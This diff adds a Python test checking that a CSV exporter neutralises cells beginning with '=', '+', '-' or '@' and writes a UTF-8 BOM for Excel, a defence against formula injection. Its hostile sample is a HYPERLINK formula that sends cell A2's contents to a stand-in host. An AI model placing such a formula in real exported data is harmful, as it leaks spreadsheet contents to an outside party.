@@ -15,6 +15,23 @@ def test_round_trip_keeps_every_field() -> None:
     assert parsed == rows
 
 
+def test_formulas_never_reach_the_spreadsheet_and_excel_reads_utf8() -> None:
+    hostile = '=HYPERLINK("http://x.example/?a="&A2;"Jana")'
+    rows = [
+        Row(2, hostile, Role.GUEST, None, False, "+49 3904 7240-0", None, None, True),
+        Row(3, "@Börde", Role.GUEST, None, False, None, None, None, True),
+    ]  # fmt: skip
+    text = render(rows)
+    assert text.startswith("\ufeff")
+    lines = text.removeprefix("\ufeff").splitlines()
+    assert all(
+        not cell.startswith(("=", "+", "-", "@")) for line in lines[1:] for cell in line.split(";")
+    )
+    assert "'+49 3904 7240-0" in lines[1] and lines[2].startswith("'@Börde")
+    parsed, errors = parse(text)
+    assert errors == [] and parsed == rows
+
+
 def test_bad_rows_are_reported_with_line_numbers() -> None:
     text = "\n".join(
         [
